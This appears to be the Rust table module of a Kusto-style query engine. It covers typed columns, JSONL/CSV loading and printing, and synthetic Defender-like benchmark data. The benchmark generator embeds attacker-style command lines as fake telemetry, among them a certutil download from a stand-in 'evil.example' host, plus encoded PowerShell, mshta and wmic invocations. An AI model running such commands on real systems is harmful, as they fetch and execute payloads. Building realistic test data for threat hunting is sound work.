//! Columnar tables: typed column vectors, loading from JSON Lines / CSV, and printing.
//!
//! Columns are typed vectors (`Vec<Option<i64>>`, `Vec<Arc<str>>`, …) so that filters,
//! hash joins and aggregations walk plain slices; rows are only ever addressed by index.

use std::collections::HashMap;
use std::path::Path;
use std::sync::Arc;

use crate::value::{self, Dyn, Type, Value};

/// The typed storage of one column. `Real` also stores `decimal` (see [`Type::Decimal`]).
#[derive(Clone, Debug)]
pub enum ColumnData {
    Bool(Vec<Option<bool>>),
    Int(Vec<Option<i32>>),
    Long(Vec<Option<i64>>),
    Real(Vec<Option<f64>>),
    /// Strings are never null in Kusto; a missing value is "".
    String(Vec<Arc<str>>),
    DateTime(Vec<Option<i64>>),
    TimeSpan(Vec<Option<i64>>),
    Guid(Vec<Option<u128>>),
    Dynamic(Vec<Dyn>),
}

/// A named, typed column. The data sits behind an `Arc` so that cloning a table (a `let`
/// binding, an `as`, every reference to a context table) costs one refcount per column instead
/// of copying millions of cells; writers go through [`Column::data_mut`] (copy-on-write).
#[derive(Clone, Debug)]
pub struct Column {
    pub name: String,
    pub ty: Type,
    pub data: Arc<ColumnData>,
}

#[derive(Clone, Debug, Default)]
pub struct Table {
    pub columns: Vec<Column>,
}

fn empty_str() -> Arc<str> {
    thread_local! { static EMPTY: Arc<str> = Arc::from(""); }
    EMPTY.with(|e| e.clone())
}

impl ColumnData {
    /// An empty vector of the storage kind for `ty`.
    pub fn new(ty: Type, capacity: usize) -> ColumnData {
        match ty {
            Type::Bool => ColumnData::Bool(Vec::with_capacity(capacity)),
            Type::Int => ColumnData::Int(Vec::with_capacity(capacity)),
            Type::Long => ColumnData::Long(Vec::with_capacity(capacity)),
            Type::Real | Type::Decimal => ColumnData::Real(Vec::with_capacity(capacity)),
            Type::String => ColumnData::String(Vec::with_capacity(capacity)),
            Type::DateTime => ColumnData::DateTime(Vec::with_capacity(capacity)),
            Type::TimeSpan => ColumnData::TimeSpan(Vec::with_capacity(capacity)),
            Type::Guid => ColumnData::Guid(Vec::with_capacity(capacity)),
            Type::Dynamic => ColumnData::Dynamic(Vec::with_capacity(capacity)),
        }
    }

    pub fn len(&self) -> usize {
        match self {
            ColumnData::Bool(v) => v.len(),
            ColumnData::Int(v) => v.len(),
            ColumnData::Long(v) => v.len(),
            ColumnData::Real(v) => v.len(),
            ColumnData::String(v) => v.len(),
            ColumnData::DateTime(v) => v.len(),
            ColumnData::TimeSpan(v) => v.len(),
            ColumnData::Guid(v) => v.len(),
            ColumnData::Dynamic(v) => v.len(),
        }
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Appends `v`, converting it to this column's type first (failed conversions give null).
    pub fn push(&mut self, ty: Type, v: &Value) {
        let conv;
        let same = v.ty() == Some(ty) || v.is_null() && !matches!(v, Value::Dynamic(_));
        let real_like =
            ty == Type::Decimal && matches!(v, Value::Real(_)) || ty == Type::Real && matches!(v, Value::Decimal(_));
        let v = if same || real_like {
            v
        } else {
            conv = value::convert(v, ty);
            &conv
        };
        match self {
            ColumnData::Bool(c) => c.push(v.as_bool()),
            ColumnData::Int(c) => c.push(match v {
                Value::Int(i) => Some(*i),
                Value::Long(i) => Some(*i as i32),
                _ => None,
            }),
            ColumnData::Long(c) => c.push(v.as_i64()),
            ColumnData::Real(c) => c.push(v.as_f64()),
            ColumnData::String(c) => c.push(match v {
                Value::String(s) => s.clone(),
                _ => empty_str(),
            }),
            ColumnData::DateTime(c) => c.push(match v {
                Value::DateTime(t) => Some(*t),
                _ => None,
            }),
            ColumnData::TimeSpan(c) => c.push(match v {
                Value::TimeSpan(t) => Some(*t),
                _ => None,
            }),
            ColumnData::Guid(c) => c.push(match v {
                Value::Guid(g) => Some(*g),
                _ => None,
            }),
            ColumnData::Dynamic(c) => c.push(match v {
                Value::Dynamic(d) => d.clone(),
                Value::Null => Dyn::Null,
                other => other.to_dyn(),
            }),
        }
    }

    /// Appends a null (empty string for strings).
    pub fn push_null(&mut self) {
        match self {
            ColumnData::Bool(c) => c.push(None),
            ColumnData::Int(c) => c.push(None),
            ColumnData::Long(c) => c.push(None),
            ColumnData::Real(c) => c.push(None),
            ColumnData::String(c) => c.push(empty_str()),
            ColumnData::DateTime(c) => c.push(None),
            ColumnData::TimeSpan(c) => c.push(None),
            ColumnData::Guid(c) => c.push(None),
            ColumnData::Dynamic(c) => c.push(Dyn::Null),
        }
    }

    /// Rows at `idx`, in that order (used by filter, sort, join).
    pub fn gather(&self, idx: &[usize]) -> ColumnData {
        fn g<T: Clone>(v: &[T], idx: &[usize]) -> Vec<T> {
            idx.iter().map(|&i| v[i].clone()).collect()
        }
        match self {
            ColumnData::Bool(v) => ColumnData::Bool(g(v, idx)),
            ColumnData::Int(v) => ColumnData::Int(g(v, idx)),
            ColumnData::Long(v) => ColumnData::Long(g(v, idx)),
            ColumnData::Real(v) => ColumnData::Real(g(v, idx)),
            ColumnData::String(v) => ColumnData::String(g(v, idx)),
            ColumnData::DateTime(v) => ColumnData::DateTime(g(v, idx)),
            ColumnData::TimeSpan(v) => ColumnData::TimeSpan(g(v, idx)),
            ColumnData::Guid(v) => ColumnData::Guid(g(v, idx)),
            ColumnData::Dynamic(v) => ColumnData::Dynamic(g(v, idx)),
        }
    }

    /// Rows at `idx`, where `None` produces a null (outer joins).
    pub fn gather_opt(&self, idx: &[Option<usize>]) -> ColumnData {
        fn g<T: Clone>(v: &[Option<T>], idx: &[Option<usize>]) -> Vec<Option<T>> {
            idx.iter().map(|i| i.and_then(|i| v[i].clone())).collect()
        }
        match self {
            ColumnData::Bool(v) => ColumnData::Bool(g(v, idx)),
            ColumnData::Int(v) => ColumnData::Int(g(v, idx)),
            ColumnData::Long(v) => ColumnData::Long(g(v, idx)),
            ColumnData::Real(v) => ColumnData::Real(g(v, idx)),
            ColumnData::String(v) => {
                ColumnData::String(idx.iter().map(|i| i.map_or_else(empty_str, |i| v[i].clone())).collect())
            }
            ColumnData::DateTime(v) => ColumnData::DateTime(g(v, idx)),
            ColumnData::TimeSpan(v) => ColumnData::TimeSpan(g(v, idx)),
            ColumnData::Guid(v) => ColumnData::Guid(g(v, idx)),
            ColumnData::Dynamic(v) => {
                ColumnData::Dynamic(idx.iter().map(|i| i.map_or(Dyn::Null, |i| v[i].clone())).collect())
            }
        }
    }

    /// Appends all rows of `other` (same storage kind; otherwise converts row by row).
    pub fn extend_from(&mut self, ty: Type, other: &Column) {
        match (self, &*other.data) {
            (ColumnData::Bool(a), ColumnData::Bool(b)) => a.extend_from_slice(b),
            (ColumnData::Int(a), ColumnData::Int(b)) => a.extend_from_slice(b),
            (ColumnData::Long(a), ColumnData::Long(b)) => a.extend_from_slice(b),
            (ColumnData::Real(a), ColumnData::Real(b)) => a.extend_from_slice(b),
            (ColumnData::String(a), ColumnData::String(b)) => a.extend_from_slice(b),
            (ColumnData::DateTime(a), ColumnData::DateTime(b)) => a.extend_from_slice(b),
            (ColumnData::TimeSpan(a), ColumnData::TimeSpan(b)) => a.extend_from_slice(b),
            (ColumnData::Guid(a), ColumnData::Guid(b)) => a.extend_from_slice(b),
            (ColumnData::Dynamic(a), ColumnData::Dynamic(b)) => a.extend_from_slice(b),
            (me, _) => {
                for i in 0..other.len() {
                    me.push(ty, &other.get(i));
                }
            }
        }
    }
}

impl Column {
    pub fn new(name: impl Into<String>, ty: Type) -> Column {
        Column { name: name.into(), ty, data: Arc::new(ColumnData::new(ty, 0)) }
    }

    /// A column over existing storage.
    pub fn with_data(name: impl Into<String>, ty: Type, data: ColumnData) -> Column {
        Column { name: name.into(), ty, data: Arc::new(data) }
    }

    /// Mutable access to the cells; copies them first only if another table shares them.
    pub fn data_mut(&mut self) -> &mut ColumnData {
        Arc::make_mut(&mut self.data)
    }

    /// Builds a column from values, converting each to `ty`.
    pub fn from_values(name: impl Into<String>, ty: Type, values: &[Value]) -> Column {
        let mut data = ColumnData::new(ty, values.len());
        for v in values {
            data.push(ty, v);
        }
        Column { name: name.into(), ty, data: Arc::new(data) }
    }

    /// A column of `n` nulls.
    pub fn nulls(name: impl Into<String>, ty: Type, n: usize) -> Column {
        let mut data = ColumnData::new(ty, n);
        for _ in 0..n {
            data.push_null();
        }
        Column { name: name.into(), ty, data: Arc::new(data) }
    }

    pub fn len(&self) -> usize {
        self.data.len()
    }

    pub fn is_empty(&self) -> bool {
        self.data.is_empty()
    }

    /// The value at row `i`.
    pub fn get(&self, i: usize) -> Value {
        match &*self.data {
            ColumnData::Bool(v) => v[i].map_or(Value::Null, Value::Bool),
            ColumnData::Int(v) => v[i].map_or(Value::Null, Value::Int),
            ColumnData::Long(v) => v[i].map_or(Value::Null, Value::Long),
            ColumnData::Real(v) => match v[i] {
                None => Value::Null,
                Some(f) if self.ty == Type::Decimal => Value::Decimal(f),
                Some(f) => Value::Real(f),
            },
            ColumnData::String(v) => Value::String(v[i].clone()),
            ColumnData::DateTime(v) => v[i].map_or(Value::Null, Value::DateTime),
            ColumnData::TimeSpan(v) => v[i].map_or(Value::Null, Value::TimeSpan),
            ColumnData::Guid(v) => v[i].map_or(Value::Null, Value::Guid),
            ColumnData::Dynamic(v) => Value::Dynamic(v[i].clone()),
        }
    }

    pub fn gather(&self, idx: &[usize]) -> Column {
        Column { name: self.name.clone(), ty: self.ty, data: Arc::new(self.data.gather(idx)) }
    }

    pub fn gather_opt(&self, idx: &[Option<usize>]) -> Column {
        Column { name: self.name.clone(), ty: self.ty, data: Arc::new(self.data.gather_opt(idx)) }
    }

    pub fn renamed(mut self, name: impl Into<String>) -> Column {
        self.name = name.into();
        self
    }
}

impl Table {
    pub fn new(columns: Vec<Column>) -> Table {
        Table { columns }
    }

    pub fn num_rows(&self) -> usize {
        self.columns.first().map_or(0, Column::len)
    }

    pub fn num_columns(&self) -> usize {
        self.columns.len()
    }

    /// Column position by exact (case-sensitive) name, as KQL resolves names.
    pub fn index_of(&self, name: &str) -> Option<usize> {
        self.columns.iter().position(|c| c.name == name)
    }

    pub fn column(&self, name: &str) -> Option<&Column> {
        self.columns.iter().find(|c| c.name == name)
    }

    /// Rows at `idx`.
    pub fn gather(&self, idx: &[usize]) -> Table {
        Table { columns: self.columns.iter().map(|c| c.gather(idx)).collect() }
    }

    /// The first `n` rows.
    pub fn head(&self, n: usize) -> Table {
        if n >= self.num_rows() {
            return self.clone();
        }
        let idx: Vec<usize> = (0..n).collect();
        self.gather(&idx)
    }

    /// Row `i` as values.
    pub fn row(&self, i: usize) -> Vec<Value> {
        self.columns.iter().map(|c| c.get(i)).collect()
    }

    /// Renders as an aligned text table (for terminals).
    pub fn to_pretty(&self) -> String {
        let headers: Vec<String> = self.columns.iter().map(|c| c.name.clone()).collect();
        let rows: Vec<Vec<String>> =
            (0..self.num_rows()).map(|i| self.columns.iter().map(|c| display_cell(&c.get(i))).collect()).collect();
        let mut widths: Vec<usize> = headers.iter().map(|h| h.chars().count()).collect();
        for r in &rows {
            for (w, cell) in widths.iter_mut().zip(r) {
                *w = (*w).max(cell.chars().count()).min(80);
            }
        }
        let line = |cells: &[String]| -> String {
            let parts: Vec<String> = cells
                .iter()
                .zip(&widths)
                .map(|(c, w)| {
                    let c: String = c.chars().take(*w).collect();
                    format!("{c:<w$}")
                })
                .collect();
            parts.join(" | ").trim_end().to_string()
        };
        let mut out = line(&headers);
        out.push('\n');
        out.push_str(&widths.iter().map(|w| "-".repeat(*w)).collect::<Vec<_>>().join("-+-"));
        out.push('\n');
        for r in &rows {
            out.push_str(&line(r));
            out.push('\n');
        }
        out
    }

    /// Advanced-hunting style JSON: `{"Schema":[{"Name","Type"}],"Results":[{col: value}]}`.
    pub fn to_json_value(&self) -> serde_json::Value {
        let schema: Vec<serde_json::Value> =
            self.columns.iter().map(|c| serde_json::json!({"Name": c.name, "Type": c.ty.name()})).collect();
        let results: Vec<serde_json::Value> = (0..self.num_rows())
            .map(|i| {
                let obj: serde_json::Map<String, serde_json::Value> =
                    self.columns.iter().map(|c| (c.name.clone(), value_to_json(&c.get(i)))).collect();
                serde_json::Value::Object(obj)
            })
            .collect();
        serde_json::json!({"Schema": schema, "Results": results})
    }

    pub fn to_json(&self) -> String {
        serde_json::to_string_pretty(&self.to_json_value()).unwrap_or_default()
    }

    /// RFC 4180 CSV with a header row.
    pub fn to_csv(&self) -> String {
        let mut out = String::new();
        let header: Vec<String> = self.columns.iter().map(|c| csv_quote(&c.name)).collect();
        out.push_str(&header.join(","));
        out.push('\n');
        for i in 0..self.num_rows() {
            let cells: Vec<String> = self.columns.iter().map(|c| csv_quote(&c.get(i).to_kusto_string())).collect();
            out.push_str(&cells.join(","));
            out.push('\n');
        }
        out
    }
}

fn display_cell(v: &Value) -> String {
    v.to_kusto_string().replace('\n', " ")
}

/// A value as JSON for API responses (datetimes and timespans as Kusto text).
pub fn value_to_json(v: &Value) -> serde_json::Value {
    match v {
        Value::Null => serde_json::Value::Null,
        Value::Bool(b) => serde_json::Value::Bool(*b),
        Value::Int(i) => serde_json::Value::from(*i),
        Value::Long(i) => serde_json::Value::from(*i),
        Value::Real(f) | Value::Decimal(f) => serde_json::Number::from_f64(*f)
            .map(serde_json::Value::Number)
            .unwrap_or_else(|| serde_json::Value::String(value::format_real(*f))),
        Value::Dynamic(d) => d.to_serde(),
        other => serde_json::Value::String(other.to_kusto_string()),
    }
}

fn csv_quote(s: &str) -> String {
    if s.contains([',', '"', '\n', '\r']) { format!("\"{}\"", s.replace('"', "\"\"")) } else { s.to_string() }
}

/// How `run_text` prints a result.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum OutputFormat {
    Table,
    Json,
    Csv,
}

impl std::str::FromStr for OutputFormat {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, String> {
        match s.to_ascii_lowercase().as_str() {
            "table" | "text" => Ok(OutputFormat::Table),
            "json" => Ok(OutputFormat::Json),
            "csv" => Ok(OutputFormat::Csv),
            other => Err(format!("unknown output format `{other}` (expected table, json or csv)")),
        }
    }
}

impl Table {
    pub fn render(&self, format: OutputFormat) -> String {
        match format {
            OutputFormat::Table => self.to_pretty(),
            OutputFormat::Json => self.to_json(),
            OutputFormat::Csv => self.to_csv(),
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Loading
// ---------------------------------------------------------------------------------------------

/// Column types per table, when the caller knows them (e.g. from the Defender schema).
pub type SchemaHint = HashMap<String, Vec<(String, Type)>>;

/// Loads every `<Table>.jsonl` and `<Table>.csv` in `dir`; types are inferred from the data.
pub fn load_dir(dir: &Path) -> Result<HashMap<String, Table>, String> {
    load_dir_with_schema(dir, &SchemaHint::new())
}

/// Like [`load_dir`], but takes column types from `schema` where it names the table.
pub fn load_dir_with_schema(dir: &Path, schema: &SchemaHint) -> Result<HashMap<String, Table>, String> {
    let mut out = HashMap::new();
    let entries = std::fs::read_dir(dir).map_err(|e| format!("cannot read data directory {}: {e}", dir.display()))?;
    let mut paths: Vec<_> = entries.filter_map(|e| e.ok().map(|e| e.path())).collect();
    paths.sort();
    for path in paths {
        let (Some(stem), Some(ext)) =
            (path.file_stem().and_then(|s| s.to_str()), path.extension().and_then(|s| s.to_str()))
        else {
            continue;
        };
        let text = match ext {
            "jsonl" | "csv" => {
                std::fs::read_to_string(&path).map_err(|e| format!("cannot read {}: {e}", path.display()))?
            }
            _ => continue,
        };
        let hint = schema.get(stem).map(Vec::as_slice);
        let table = if ext == "jsonl" { parse_jsonl(&text, hint) } else { parse_csv(&text, hint) }
            .map_err(|e| format!("{}: {e}", path.display()))?;
        out.insert(stem.to_string(), table);
    }
    Ok(out)
}

/// Parses JSON Lines (one object per line) into a table.
pub fn parse_jsonl(text: &str, hint: Option<&[(String, Type)]>) -> Result<Table, String> {
    let mut names: Vec<String> = hint.map(|h| h.iter().map(|(n, _)| n.clone()).collect()).unwrap_or_default();
    let mut index: HashMap<String, usize> = names.iter().enumerate().map(|(i, n)| (n.clone(), i)).collect();
    let mut rows: Vec<Vec<(usize, Dyn)>> = Vec::new();
    for (lineno, line) in text.lines().enumerate() {
        let line = line.trim();
        if line.is_empty() {
            continue;
        }
        let obj = Dyn::parse_json(line).ok_or_else(|| format!("line {}: invalid JSON", lineno + 1))?;
        let props = obj.as_object().ok_or_else(|| format!("line {}: expected a JSON object", lineno + 1))?;
        let mut row = Vec::with_capacity(props.len());
        for (k, v) in props {
            let i = *index.entry(k.to_string()).or_insert_with(|| {
                names.push(k.to_string());
                names.len() - 1
            });
            row.push((i, v.clone()));
        }
        rows.push(row);
    }
    let mut cells: Vec<Vec<Dyn>> = vec![vec![Dyn::Null; rows.len()]; names.len()];
    for (r, row) in rows.into_iter().enumerate() {
        for (c, v) in row {
            cells[c][r] = v;
        }
    }
    let columns = names
        .into_iter()
        .zip(cells)
        .map(|(name, vals)| {
            let ty = hint
                .and_then(|h| h.iter().find(|(n, _)| *n == name).map(|(_, t)| *t))
                .unwrap_or_else(|| infer_dyn_type(&vals));
            let values: Vec<Value> = vals.iter().map(|d| dyn_cell_to_value(d, ty)).collect();
            Column::from_values(name, ty, &values)
        })
        .collect();
    Ok(Table::new(columns))
}

fn dyn_cell_to_value(d: &Dyn, ty: Type) -> Value {
    match (d, ty) {
        (Dyn::Null, Type::Dynamic) => Value::Dynamic(Dyn::Null),
        (Dyn::Null, _) => Value::Null,
        // Nested JSON stored as a string column keeps its text.
        (Dyn::Array(_) | Dyn::Object(_), Type::String) => Value::string(d.to_json()),
        // A dynamic column may arrive as JSON text ("AdditionalFields": "{...}").
        (Dyn::String(s), Type::Dynamic) => Value::Dynamic(Dyn::parse_json(s).unwrap_or_else(|| d.clone())),
        _ => Value::from_dyn_as(d, ty),
    }
}

/// Infers a column type from JSON values: all-integer → long, numbers → real, bools → bool,
/// ISO datetime strings → datetime, other strings → string, nested → dynamic.
fn infer_dyn_type(vals: &[Dyn]) -> Type {
    let mut ty: Option<Type> = None;
    for v in vals {
        let t = match v {
            Dyn::Null => continue,
            Dyn::Bool(_) => Type::Bool,
            Dyn::Long(_) => Type::Long,
            Dyn::Real(_) => Type::Real,
            Dyn::String(s) => {
                if looks_like_datetime(s) {
                    Type::DateTime
                } else {
                    Type::String
                }
            }
            Dyn::Array(_) | Dyn::Object(_) => Type::Dynamic,
        };
        ty = Some(match (ty, t) {
            (None, t) => t,
            (Some(a), b) if a == b => a,
            (Some(Type::Long), Type::Real) | (Some(Type::Real), Type::Long) => Type::Real,
            (Some(Type::DateTime), Type::String) | (Some(Type::String), Type::DateTime) => Type::String,
            _ => Type::Dynamic,
        });
    }
    ty.unwrap_or(Type::String)
}

fn looks_like_datetime(s: &str) -> bool {
    let b = s.as_bytes();
    b.len() >= 19
        && b[4] == b'-'
        && b[7] == b'-'
        && (b[10] == b'T' || b[10] == b' ')
        && value::parse_datetime(s).is_some()
}

/// Parses CSV with a header row (RFC 4180 quoting).
pub fn parse_csv(text: &str, hint: Option<&[(String, Type)]>) -> Result<Table, String> {
    let records = csv_records(text);
    let mut it = records.into_iter();
    let header = it.next().ok_or("empty CSV file (no header row)")?;
    let rows: Vec<Vec<String>> = it.filter(|r| !(r.len() == 1 && r[0].is_empty())).collect();
    let mut columns = Vec::with_capacity(header.len());
    for (c, name) in header.iter().enumerate() {
        let texts: Vec<&str> = rows.iter().map(|r| r.get(c).map_or("", String::as_str)).collect();
        let ty = hint
            .and_then(|h| h.iter().find(|(n, _)| n == name).map(|(_, t)| *t))
            .unwrap_or_else(|| infer_text_type(&texts));
        let values: Vec<Value> = texts
            .iter()
            .map(|t| match ty {
                Type::String => Value::str(t),
                _ if t.is_empty() => Value::Null,
                Type::Dynamic => Value::Dynamic(Dyn::parse_json(t).unwrap_or_else(|| Dyn::str(t))),
                _ => value::convert(&Value::str(t), ty),
            })
            .collect();
        columns.push(Column::from_values(name.clone(), ty, &values));
    }
    Ok(Table::new(columns))
}

fn infer_text_type(texts: &[&str]) -> Type {
    let non_empty: Vec<&str> = texts.iter().copied().filter(|t| !t.is_empty()).collect();
    if non_empty.is_empty() {
        return Type::String;
    }
    if non_empty.iter().all(|t| t.parse::<i64>().is_ok()) {
        Type::Long
    } else if non_empty.iter().all(|t| t.parse::<f64>().is_ok()) {
        Type::Real
    } else if non_empty.iter().all(|t| t.eq_ignore_ascii_case("true") || t.eq_ignore_ascii_case("false")) {
        Type::Bool
    } else if non_empty.iter().all(|t| looks_like_datetime(t)) {
        Type::DateTime
    } else {
        Type::String
    }
}

fn csv_records(text: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    let mut record = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if quoted {
            if c == '"' {
                if chars.peek() == Some(&'"') {
                    field.push('"');
                    chars.next();
                } else {
                    quoted = false;
                }
            } else {
                field.push(c);
            }
            continue;
        }
        match c {
            '"' => quoted = true,
            ',' => record.push(std::mem::take(&mut field)),
            '\r' => {}
            '\n' => {
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
            }
            c => field.push(c),
        }
    }
    if !field.is_empty() || !record.is_empty() {
        record.push(field);
        records.push(record);
    }
    records
}

// ---------------------------------------------------------------------------------------------
// Synthetic data for benchmarks
// ---------------------------------------------------------------------------------------------

/// A tiny deterministic PRNG (xorshift64*), so benchmarks are reproducible without `rand`.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }
}

/// How many distinct devices the generators produce.
pub const GENERATED_DEVICES: usize = 500;

/// `DeviceId` of generated device `i` (shared by both generators so their tables join).
fn generated_device_id(i: usize) -> String {
    format!("{:040x}", (i as u128 + 1) * 0x9e3779b97f4a7c15)
}

fn generated_device_name(i: usize) -> String {
    format!("pc-{i:04}.contoso.local")
}

/// Generates a `DeviceInfo`-like table over the same devices as
/// [`generate_device_process_events`]: `snapshots` rows per device (Defender reports a device
/// repeatedly), in snapshot-major order, with a `Seq` column giving the row position. Some
/// devices change OS between snapshots, so which snapshot a join keeps is observable.
pub fn generate_device_info(snapshots: usize, seed: u64) -> Table {
    let mut rng = Rng(seed.wrapping_mul(0xD1B5_4A32_D192_ED03) | 1);
    let platforms = ["Windows10", "Windows11", "WindowsServer2019", "WindowsServer2022", "Linux", "macOS"];
    let groups = ["Workstations", "Servers", "Finance", "Lab"];
    let base = value::parse_datetime("2024-01-01T00:00:00Z").unwrap_or(0);
    let n = snapshots * GENERATED_DEVICES;
    let (mut ts, mut ids, mut names, mut os, mut group, mut seq) = (
        Vec::with_capacity(n),
        Vec::with_capacity(n),
        Vec::with_capacity(n),
        Vec::with_capacity(n),
        Vec::with_capacity(n),
        Vec::with_capacity(n),
    );
    let ids_s: Vec<Arc<str>> = (0..GENERATED_DEVICES).map(|i| Arc::from(generated_device_id(i))).collect();
    let names_s: Vec<Arc<str>> = (0..GENERATED_DEVICES).map(|i| Arc::from(generated_device_name(i))).collect();
    let mut current: Vec<usize> = (0..GENERATED_DEVICES).map(|_| rng.below(platforms.len())).collect();
    for snap in 0..snapshots {
        for d in 0..GENERATED_DEVICES {
            // One in eight devices is upgraded / reinstalled between snapshots.
            if snap > 0 && rng.below(8) == 0 {
                current[d] = rng.below(platforms.len());
            }
            ts.push(Some(
                base + (snap as i64) * value::TICKS_PER_DAY + rng.below(86_400) as i64 * value::TICKS_PER_SECOND,
            ));
            ids.push(ids_s[d].clone());
            names.push(names_s[d].clone());
            os.push(Arc::from(platforms[current[d]]));
            group.push(Arc::from(groups[d % groups.len()]));
            seq.push(Some(seq.len() as i64));
        }
    }
    Table::new(vec![
        Column::with_data("Timestamp", Type::DateTime, ColumnData::DateTime(ts)),
        Column::with_data("DeviceId", Type::String, ColumnData::String(ids)),
        Column::with_data("DeviceName", Type::String, ColumnData::String(names)),
        Column::with_data("OSPlatform", Type::String, ColumnData::String(os)),
        Column::with_data("MachineGroup", Type::String, ColumnData::String(group)),
        Column::with_data("Seq", Type::Long, ColumnData::Long(seq)),
    ])
}

/// Generates `rows` rows shaped like Defender's `DeviceProcessEvents`, for benchmarks of
/// scan / filter / summarize / join / has_any over millions of rows.
pub fn generate_device_process_events(rows: usize, seed: u64) -> Table {
    let mut rng = Rng(seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1);
    let devices: Vec<Arc<str>> = (0..GENERATED_DEVICES).map(|i| Arc::from(generated_device_name(i))).collect();
    let device_ids: Vec<Arc<str>> = (0..GENERATED_DEVICES).map(|i| Arc::from(generated_device_id(i))).collect();
    let accounts: Vec<Arc<str>> = ["alice", "bob", "carol", "dave", "svc_backup", "system", "network service", "eve"]
        .iter()
        .map(|s| Arc::from(*s))
        .collect();
    let files: &[(&str, &str)] = &[
        ("powershell.exe", "powershell.exe -NoProfile -EncodedCommand SQBFAFgA"),
        ("cmd.exe", "cmd.exe /c whoami /all"),
        ("rundll32.exe", "rundll32.exe C:\\Windows\\Temp\\a.dll,Start"),
        ("svchost.exe", "svchost.exe -k netsvcs -p"),
        ("chrome.exe", "chrome.exe --type=renderer"),
        ("certutil.exe", "certutil.exe -urlcache -split -f http://evil.example/p.exe"),
        ("explorer.exe", "explorer.exe"),
        ("mshta.exe", "mshta.exe vbscript:Execute(\"CreateObject(\"\"Wscript.Shell\"\")\")"),
        ("notepad.exe", "notepad.exe C:\\Users\\alice\\notes.txt"),
        ("wmic.exe", "wmic.exe process call create calc.exe"),
    ];
    let file_names: Vec<Arc<str>> = files.iter().map(|(f, _)| Arc::from(*f)).collect();
    let cmdlines: Vec<Arc<str>> = files.iter().map(|(_, c)| Arc::from(*c)).collect();
    let folders: Vec<Arc<str>> = [
        "C:\\Windows\\System32",
        "C:\\Windows\\Temp",
        "C:\\Program Files\\Google\\Chrome",
        "C:\\Users\\alice\\Downloads",
    ]
    .iter()
    .map(|s| Arc::from(*s))
    .collect();
    let action: Arc<str> = Arc::from("ProcessCreated");
    let hashes: Vec<Arc<str>> =
        (0..2000).map(|i| Arc::from(format!("{:064x}", (i as u128 + 7) * 0x2545f4914f6cdd1d))).collect();
    let base = value::parse_datetime("2024-01-01T00:00:00Z").unwrap_or(0);

    let mut ts = Vec::with_capacity(rows);
    let mut dev_id = Vec::with_capacity(rows);
    let mut dev_name = Vec::with_capacity(rows);
    let mut action_type = Vec::with_capacity(rows);
    let mut file_name = Vec::with_capacity(rows);
    let mut folder = Vec::with_capacity(rows);
    let mut sha256 = Vec::with_capacity(rows);
    let mut cmd = Vec::with_capacity(rows);
    let mut account = Vec::with_capacity(rows);
    let mut pid = Vec::with_capacity(rows);
    let mut parent = Vec::with_capacity(rows);
    let mut parent_cmd = Vec::with_capacity(rows);
    let mut report_id = Vec::with_capacity(rows);
    for r in 0..rows {
        let d = rng.below(devices.len());
        let f = rng.below(files.len());
        let p = rng.below(files.len());
        ts.push(Some(base + (rng.below(30 * 86_400) as i64) * value::TICKS_PER_SECOND));
        dev_id.push(device_ids[d].clone());
        dev_name.push(devices[d].clone());
        action_type.push(action.clone());
        file_name.push(file_names[f].clone());
        folder.push(folders[rng.below(folders.len())].clone());
        sha256.push(hashes[rng.below(hashes.len())].clone());
        cmd.push(cmdlines[f].clone());
        account.push(accounts[rng.below(accounts.len())].clone());
        pid.push(Some(rng.below(65_536) as i64));
        parent.push(file_names[p].clone());
        parent_cmd.push(cmdlines[p].clone());
        report_id.push(Some(r as i64));
    }
    let col = |name: &str, ty: Type, data: ColumnData| Column::with_data(name, ty, data);
    Table::new(vec![
        col("Timestamp", Type::DateTime, ColumnData::DateTime(ts)),
        col("DeviceId", Type::String, ColumnData::String(dev_id)),
        col("DeviceName", Type::String, ColumnData::String(dev_name)),
        col("ActionType", Type::String, ColumnData::String(action_type)),
        col("FileName", Type::String, ColumnData::String(file_name)),
        col("FolderPath", Type::String, ColumnData::String(folder)),
        col("SHA256", Type::String, ColumnData::String(sha256)),
        col("ProcessCommandLine", Type::String, ColumnData::String(cmd)),
        col("AccountName", Type::String, ColumnData::String(account)),
        col("ProcessId", Type::Long, ColumnData::Long(pid)),
        col("InitiatingProcessFileName", Type::String, ColumnData::String(parent)),
        col("InitiatingProcessCommandLine", Type::String, ColumnData::String(parent_cmd)),
        col("ReportId", Type::Long, ColumnData::Long(report_id)),
    ])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn jsonl_infers_types() {
        let t = parse_jsonl(
            "{\"a\":1,\"b\":\"x\",\"t\":\"2024-01-01T00:00:00Z\",\"d\":{\"k\":1}}\n{\"a\":2.5,\"b\":\"y\"}\n",
            None,
        )
        .unwrap();
        let tys: Vec<Type> = t.columns.iter().map(|c| c.ty).collect();
        assert_eq!(tys, vec![Type::Real, Type::String, Type::DateTime, Type::Dynamic]);
        assert_eq!(t.num_rows(), 2);
        assert!(t.columns[2].get(1).is_null());
    }

    #[test]
    fn csv_quotes_and_types() {
        let t = parse_csv("n,s,b\n1,\"a,b\",true\n2,\"say \"\"hi\"\"\",false\n", None).unwrap();
        assert_eq!(t.columns[0].ty, Type::Long);
        assert_eq!(t.columns[1].get(1).to_kusto_string(), "say \"hi\"");
        assert_eq!(t.columns[2].ty, Type::Bool);
        assert!(t.to_csv().contains("\"a,b\""));
    }

    #[test]
    fn generator_is_deterministic() {
        let a = generate_device_process_events(100, 7);
        let b = generate_device_process_events(100, 7);
        assert_eq!(a.num_rows(), 100);
        assert_eq!(a.columns[4].get(50).to_kusto_string(), b.columns[4].get(50).to_kusto_string());
    }
}
